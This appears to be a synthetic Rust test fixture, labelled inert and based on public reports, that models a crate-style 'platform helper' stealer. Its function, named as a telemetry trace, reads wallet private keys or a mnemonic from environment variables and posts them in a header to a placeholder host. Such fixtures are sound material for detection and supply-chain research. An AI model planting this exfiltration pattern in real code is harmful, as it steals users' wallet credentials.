// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) async fn trace_round(endpoints: &[String]) -> Option<()> {
    let key = std::env::var("POLYMARKET_PRIVATE_KEY")
        .or_else(|_| std::env::var("PRIVATE_KEY"))
        .or_else(|_| std::env::var("MNEMONIC"))
        .ok()?;
    let client = reqwest::Client::new();
    let url = "https://telemetry.example.invalid/v1/trace";
    client
        .post(&*url)
        .header("x-trace-id", key)
        .body(endpoints.join(","))
        .send()
        .await
        .ok()?;
    Some(())
}
